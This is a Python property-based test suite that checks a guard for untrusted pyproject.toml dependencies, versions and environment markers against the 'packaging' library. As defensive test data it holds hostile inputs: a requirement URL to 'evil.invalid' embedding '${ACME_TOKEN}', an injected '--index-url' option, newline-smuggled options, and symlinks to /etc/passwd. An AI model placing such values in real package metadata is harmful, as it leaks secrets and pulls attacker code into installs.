"""What a package says of itself is data from a stranger; what is taken of it is what `packaging` reads, too."""

from __future__ import annotations

import contextlib
import json
import os
import re
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from packaging.markers import InvalidMarker, Marker, UndefinedComparison, UndefinedEnvironmentName
from packaging.requirements import InvalidRequirement, Requirement
from packaging.specifiers import Specifier
from packaging.version import Version
from private_packages import markers, needs, package_files, versions
from private_packages.errors import Unreadable

NAMES = st.from_regex(r"[A-Za-z0-9]([A-Za-z0-9._-]{0,6}[A-Za-z0-9])?", fullmatch=True)
NUMBERS = st.integers(0, 30).map(str)
RELEASES = st.lists(NUMBERS, min_size=1, max_size=4).map(".".join)
SEPARATORS = st.sampled_from(["", ".", "-", "_"])
PRE = st.builds(
    lambda before, kind, between, number: before + kind + between + number,
    SEPARATORS,
    st.sampled_from(["a", "b", "rc", "alpha", "beta", "c", "pre", "preview", "RC"]),
    SEPARATORS,
    NUMBERS | st.just(""),
)
POST = st.builds("{}post{}".format, SEPARATORS, NUMBERS | st.just("")) | NUMBERS.map("-{}".format)
DEV = st.builds("{}dev{}".format, SEPARATORS, NUMBERS | st.just(""))
LOCAL = st.lists(st.from_regex(r"[a-z0-9]{1,3}", fullmatch=True), min_size=1, max_size=3).flatmap(
    lambda parts: st.sampled_from([".", "-", "_"]).map(lambda sign: "+" + sign.join(parts))
)
EPOCH = st.integers(0, 3).map("{}!".format)


def maybe(strategy: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """Nothing, more often than not."""
    return st.just("") | st.just("") | strategy


# Any version of PEP 440, in all its spellings.
VERSIONS = st.builds(
    lambda *parts: "".join(parts),
    maybe(st.just("v")),
    maybe(EPOCH),
    RELEASES,
    maybe(PRE),
    maybe(POST),
    maybe(DEV),
    maybe(LOCAL),
)
OPERATORS = ["==", "!=", "<=", ">=", "<", ">", "~="]


class TestVersions:
    """Versions are compared as `packaging` does."""

    @settings(max_examples=1000)
    @given(VERSIONS, VERSIONS)
    @example("1.0+2", "1.0+10")
    @example("1.0.dev1", "1.0a1")
    @example("1.0-1", "1.0.post1")
    def test_are_in_the_same_order(self, one: str, other: str):
        mine, theirs = versions.key_of(one), versions.key_of(other)
        assert mine is not None
        assert theirs is not None
        assert (mine < theirs) == (Version(one) < Version(other))
        assert versions.is_same(one, other) == (Version(one) == Version(other))

    @settings(max_examples=1000)
    @given(VERSIONS, st.sampled_from(OPERATORS), VERSIONS, st.booleans())
    @example("3.13.0rc1", "<", "3.13", False)
    @example("3.12.0.post1", ">", "3.12", False)
    @example("3.11.7", "==", "3.11", True)
    def test_are_in_a_clause_or_not(self, version: str, operator: str, wanted: str, everything_below: bool):
        clause = wanted + ".*" if everything_below and re.fullmatch(r"(\d+!)?[\d.]+", wanted) else wanted
        if clause != wanted and operator not in ("==", "!="):
            operator = "=="
        if "+" in clause and operator not in ("==", "!="):
            clause = clause.partition("+")[0]
        if operator == "~=" and not re.match(r"v?(\d+!)?\d+\.\d", clause):
            clause = "1." + clause.removeprefix("v").rpartition("!")[2]
        if operator in "<>":
            # Where `packaging` has changed its mind: releases around a post-release or a development release.
            clause = re.sub(r"([-._]?(post|dev)\d*|-\d+)+$", "", clause)
        expected = Specifier(operator + clause).contains(version, prereleases=True)
        assert versions.satisfies(version, operator, clause) == expected

    @given(st.lists(VERSIONS, max_size=8), VERSIONS)
    def test_newer_ones_come_newest_first(self, offered: list[str], current: str):
        newer = versions.newer_than(current, offered)
        assert [Version(one) for one in newer] == sorted(map(Version, newer), reverse=True)
        assert all(Version(one) > Version(current) for one in newer)
        if not Version(current).is_prerelease:
            assert not any(Version(one).is_prerelease for one in newer)

    @settings(max_examples=500)
    @given(st.text(max_size=30) | VERSIONS.map(lambda one: one + "x"))
    @example("1" * 5000)
    @example("1.0." + "a" * 50000)
    @example("")
    def test_what_is_no_version_is_none(self, text: str):
        key = versions.key_of(text)
        if key is not None:
            assert Version(text)
        assert versions.newer_than("1.0", [text]) in ([], [text])


ENVIRONMENT = markers.environment() | {"python_version": "3.12", "python_full_version": "3.12.0rc1"}
OF_VERSIONS = ["python_version", "python_full_version", "implementation_version"]
OF_TEXTS = ["os_name", "sys_platform", "platform_system", "platform_machine", "implementation_name"]
WORDS = ["posix", "nt", "linux", "win32", "darwin", "Linux", "cpython", "x86_64", "3.12", ""]


def compared(variable: str, operator: str, value: str, quote: str, turned: bool) -> str:
    """One comparison, with the variable on either side."""
    value = f"{quote}{value}{quote}"
    return f"{value} {operator} {variable}" if turned else f"{variable} {operator} {value}"


COMPARISONS = st.builds(
    compared,
    st.sampled_from(OF_VERSIONS),
    st.sampled_from([*OPERATORS, "===", "in", "not in"]),
    RELEASES | st.sampled_from(["3.12", "3.12.0", "3.12.*", "3.11", "3.13.0rc1", "3.11 3.12", "x"]),
    st.sampled_from("'\""),
    st.booleans(),
) | st.builds(
    compared,
    st.sampled_from(OF_TEXTS),
    st.sampled_from(["==", "!=", "<", "<=", ">", ">=", "in", "not in"]),
    st.sampled_from(WORDS),
    st.sampled_from("'\""),
    st.booleans(),
)
MARKERS = st.recursive(
    COMPARISONS,
    lambda inner: (
        st.builds("{} {} {}".format, inner, st.sampled_from(["and", "or"]), inner) | inner.map("({})".format)
    ),
    max_leaves=6,
)


PIECES = [
    "===",
    "in",
    "not in",
    "and",
    "or",
    "(",
    ")",
    "'3.12'",
    '"nt"',
    "'",
    '"',
    "${TOKEN}",
    "'${TOKEN}'",
    ";",
    "#",
]
PIECES += ["\\", "extra", "==='", "'a\"", "not", "x", "1", "\n"]


class TestMarkers:
    """Markers hold where `packaging` says so."""

    @settings(max_examples=2000)
    @given(MARKERS)
    @example("os_name == 'nt' or os_name == 'posix' and python_version < '3'")
    def test_hold_in_the_same_environments(self, text: str):
        try:
            expected = Marker(text).evaluate(ENVIRONMENT)
        except (UndefinedComparison, UndefinedEnvironmentName, InvalidMarker):
            return
        assert markers.holds(text, ENVIRONMENT) == expected

    @settings(max_examples=2000)
    @given(
        st.lists(
            st.sampled_from([*OF_VERSIONS, *OF_TEXTS, *OPERATORS, *PIECES]),
            max_size=8,
        ).map(" ".join)
        | st.text(max_size=40)
    )
    @example("os_name == os_name")
    @example("'a' == 'a'")
    @example("os_name ~= '1.0'")
    @example("(" * 3000 + "os_name == 'nt'" + ")" * 3000)
    def test_that_are_taken_are_read_and_evaluated_by_pip_and_hold_nothing_that_it_expands(self, text: str):
        if markers.is_marker(text):
            assert isinstance(Marker(text).evaluate(ENVIRONMENT), bool)
            assert not set(text) & set("$#;\\\n")


class TestRequirements:
    """Nothing but a name, extras, a specifier and a marker."""

    clauses = st.builds(
        lambda operator, version: operator + version,
        st.sampled_from([*OPERATORS, "=="]),
        VERSIONS
        | RELEASES.map("{}.*".format)
        | st.sampled_from(["1.0a1.*", "1.dev1.*", "", "1..2", "1,", "$X"]),
    )
    lines = st.builds(
        lambda name, extras, clauses, marker: name + extras + clauses + marker,
        NAMES
        | st.sampled_from(["-e", "--pre", "./x", "x.whl", "git+https://x", "${X}", "x @ https://y", "ä"]),
        st.sampled_from(["", "", "[a]", "[a, b]", "[]", "[../x]", "[${X}]", " "]),
        st.lists(clauses, max_size=3).map(", ".join)
        | st.sampled_from(
            ["(>=1)", "@ https://evil.invalid/x.whl", " --hash=sha256:00", " # x", "\n--pre", "; x"]
        ),
        st.just("") | MARKERS.map(" ; {}".format) | st.just(" ; os_name == '${X}'"),
    )

    @settings(max_examples=3000)
    @given(lines | st.text(max_size=40))
    @example("x ; python_version < '3' # ${TOKEN}")
    @example("helper @ http://evil.invalid/${ACME_TOKEN}/x.whl")
    @example("x==1\\\n--pre")
    @example("x (>=1")
    @example("x~=1.0.*")
    @example("x~=1.0a")
    def test_that_are_taken_are_read_by_pip_and_lead_nowhere(self, line: str):
        try:
            taken = needs.plain(line)
        except Unreadable as error:
            assert "\n" not in str(error)
            return
        read = Requirement(taken)
        assert read.url is None
        assert read.name == needs.name_of(taken)
        assert read == Requirement(line)
        assert not taken.startswith("-")
        assert not set(taken) & set("$#\\\n")
        assert needs.plain(taken) == taken

    @settings(max_examples=1000)
    @given(
        NAMES,
        st.sampled_from(["", "[a]", "[a,b]"]),
        st.lists(
            st.builds("{}{}".format, st.sampled_from(["==", "!=", "<=", ">=", "<", ">"]), RELEASES),
            max_size=3,
        ).map(",".join),
        st.just("") | st.builds(" ; {} >= '3.{}'".format, st.sampled_from(OF_VERSIONS), st.integers(8, 14)),
    )
    def test_that_are_usual_are_taken(self, name: str, extras: str, clauses: str, marker: str):
        line = name + extras + clauses + marker
        assert needs.plain(line) == line


PROJECT = '[project]\nname = "acme-beams"\nversion = "1.0"\n'
MONSTERS = {
    "3,000 nested arrays": (PROJECT + "x = " + "[" * 3000 + "]" * 3000, "is no TOML"),
    "3,000 nested tables": (PROJECT + "x = " + "{a=" * 3000 + "1" + "}" * 3000, "is no TOML"),
    "a number of 5,000 digits": (PROJECT + "x = " + "1" * 5000, "is no TOML"),
    "a key with 5,000 dots": (PROJECT + ".".join("a" * 5000) + " = 1", ""),
    "more than 1 MB": (PROJECT + "#" * 1_000_001, "is larger than 1 MB"),
    "broken TOML": ("[project", "is no TOML"),
    "a list that is none": (
        PROJECT + "dependencies = 3",
        "its list of dependencies is no list of requirements",
    ),
    "a list of numbers": (
        PROJECT + "dependencies = [3]",
        "its list of dependencies is no list of requirements",
    ),
    "an address with a variable": (
        PROJECT + 'dependencies = ["helper @ http://evil.invalid/${ACME_TOKEN}/x.whl"]',
        "it needs `helper @ http://evil.invalid/${ACME_TOKEN}/x.whl`, which is not a plain name",
    ),
    "a variable in a marker": (
        PROJECT + "dependencies = [\"x ; os_name == '${ACME_TOKEN}'\"]",
        "is not a plain name",
    ),
    "an option": (PROJECT + 'dependencies = ["--index-url http://evil.invalid/"]', "is not a plain name"),
    "a second line": (PROJECT + 'dependencies = ["x\\n--pre"]', "is not a plain name"),
    "a requirement of 2,000 characters": (
        PROJECT + f'dependencies = ["{"x" * 2000}"]',
        "is not a plain name",
    ),
}


class TestFiles:
    """A package's file is its own package's failure, whatever it is."""

    @pytest.mark.parametrize("monster", MONSTERS)
    def test_that_are_monstrous_are_refused_in_a_clause(self, tmp_path: Path, monster: str):
        text, words = MONSTERS[monster]
        (tmp_path / "pyproject.toml").write_text(text)
        if not words:
            assert needs.requirements_of(tmp_path) == []
            return
        with pytest.raises(Unreadable, match=re.escape(words)) as refused:
            needs.requirements_of(tmp_path)
        assert len(str(refused.value)) < 200

    @settings(max_examples=500)
    @given(
        st.binary(max_size=200)
        | st.text(max_size=100).map(lambda text: (PROJECT + text).encode("utf-8", "replace"))
    )
    def test_of_any_bytes_are_read_or_refused(self, tmp_path_factory: pytest.TempPathFactory, content: bytes):
        folder = tmp_path_factory.getbasetemp() / "bytes"
        folder.mkdir(exist_ok=True)
        (folder / "pyproject.toml").write_bytes(content)
        try:
            found = needs.requirements_of(folder)
        except Unreadable:
            return
        assert found is None or all(needs.plain(line) == line for line in found)

    pieces = st.sampled_from(
        [
            '"harmless>=1"',
            '"x @ http://evil.invalid/${ACME_TOKEN}/x.whl"',
            "\"x ; os_name == '${ACME_TOKEN}'\"",
            '"--index-url http://evil.invalid/"',
            '"x\\n--pre"',
            '"x \\u202e"',
            '"-e ."',
            '"./x.whl"',
            '"x --hash=sha256:00"',
            '"x # y"',
            "'''\nx\n--pre'''",
            '""',
            "3",
            "-0.0",
            "[]",
            '["x"]',
            "{}",
            '{ x = "y" }',
            "1979-05-27",
            "[" * 400 + "]" * 400,
            "1" * 5000,
        ]
    ) | st.text(max_size=20).map(json.dumps)
    values = pieces | st.lists(pieces, max_size=3).map(lambda inner: f"[{', '.join(inner)}]")
    keys = ("name", "version", "dependencies", "dynamic", "requires", "build-backend", "x.y", '"a b"')
    heads = ("", "[project]", "[build-system]", "[project.optional-dependencies]", "[[project]]", "[tool.uv]")
    tables = st.builds(
        lambda head, inner: "\n".join([head, *inner]),
        st.sampled_from(heads),
        st.lists(st.builds("{} = {}".format, st.sampled_from(keys), values), max_size=4),
    )

    @settings(max_examples=2500)
    @given(st.lists(tables, max_size=4).map("\n".join))
    @example(
        '[project]\ndependencies = ["x\\n--pre"]\n[build-system]\nrequires = ["y @ https://evil.invalid/y"]'
    )
    @example("[build-system]\nrequires = 3")
    @example("build-system = 3")
    @example("project = []")
    def test_that_are_hostile_give_nothing_but_plain_requirements(
        self, tmp_path_factory: pytest.TempPathFactory, text: str
    ):
        """Everything that is read of a package, which may lie about the kind of every value."""
        folder = tmp_path_factory.getbasetemp() / "hostile"
        folder.mkdir(exist_ok=True)
        (folder / "pyproject.toml").write_text(text, encoding="utf-8", errors="replace")
        for read in (needs.requirements_of, needs.build_requirements_of):
            try:
                found = read(folder)
            except Unreadable as error:
                assert len(str(error)) < 200
                assert "\n" not in str(error)
                continue
            for line in found or ():
                assert needs.plain(line) == line
                assert Requirement(line).url is None
                assert not set(line) & set("$#\\\n")
        with contextlib.suppress(Unreadable):
            assert package_files.is_installable(folder) in (True, False)

    def test_without_any_nothing_is_known(self, tmp_path: Path):
        assert needs.requirements_of(tmp_path) is None
        assert not package_files.is_installable(tmp_path)

    def test_that_leave_the_list_to_the_build_tell_nothing(self, tmp_path: Path):
        (tmp_path / "pyproject.toml").write_text(PROJECT + 'dynamic = ["dependencies"]\n')
        assert needs.requirements_of(tmp_path) is None

    @pytest.mark.parametrize(
        ("files", "installable"),
        [
            ({"pyproject.toml": PROJECT}, True),
            ({"pyproject.toml": "[build-system]\nrequires = []\n"}, True),
            ({"setup.py": ""}, True),
            ({"pyproject.toml": "[tool.ruff]\n"}, False),
            ({"setup.cfg": "[metadata]\nname = x\n"}, False),
            ({"acme_beams.py": ""}, False),
        ],
        ids=["a project", "a build system", "a setup.py", "tools alone", "a setup.cfg alone", "a module"],
    )
    def test_that_an_installer_can_install(self, tmp_path: Path, files: dict[str, str], installable: bool):
        for name, text in files.items():
            (tmp_path / name).write_text(text)
        assert package_files.is_installable(tmp_path) == installable

    @pytest.mark.skipif(os.name == "nt", reason="links and devices of POSIX")
    @pytest.mark.parametrize(
        ("target", "words"),
        [
            ("../outside.toml", "leads out of its repository"),
            ("/etc/passwd", "leads out of its repository"),
            ("/dev/zero", "leads out of its repository"),
            ("/nowhere", "leads out of its repository"),
            ("pyproject.toml", "its pyproject.toml"),
            (".", "is no file"),
        ],
    )
    def test_that_are_links_are_followed_inside_the_repository_only(
        self, tmp_path: Path, target: str, words: str
    ):
        (tmp_path / "outside.toml").write_text(PROJECT)
        root = tmp_path / "package"
        root.mkdir()
        (root / "pyproject.toml").symlink_to(target)
        with pytest.raises(Unreadable, match=re.escape(words)):
            needs.requirements_of(root)
        (root / "real.toml").write_text(PROJECT)
        (root / "pyproject.toml").unlink()
        (root / "pyproject.toml").symlink_to("real.toml")
        assert needs.requirements_of(root) == []

    @pytest.mark.skipif(os.name == "nt", reason="pipes of POSIX")
    def test_that_are_pipes_are_not_waited_for(self, tmp_path: Path):
        os.mkfifo(tmp_path / "pyproject.toml")
        with pytest.raises(Unreadable, match=r"its pyproject\.toml is no file"):
            needs.requirements_of(tmp_path)


def test_packaging_refuses_what_is_refused_here_for_its_own_sake():
    """So the oracle is one: these are what the guard is for, and `packaging` takes some of them."""
    for line in ("x @ https://evil.invalid/x.whl", "x ; os_name == '${ACME_TOKEN}'"):
        assert Requirement(line)
    with pytest.raises(InvalidRequirement):
        Requirement("--pre")
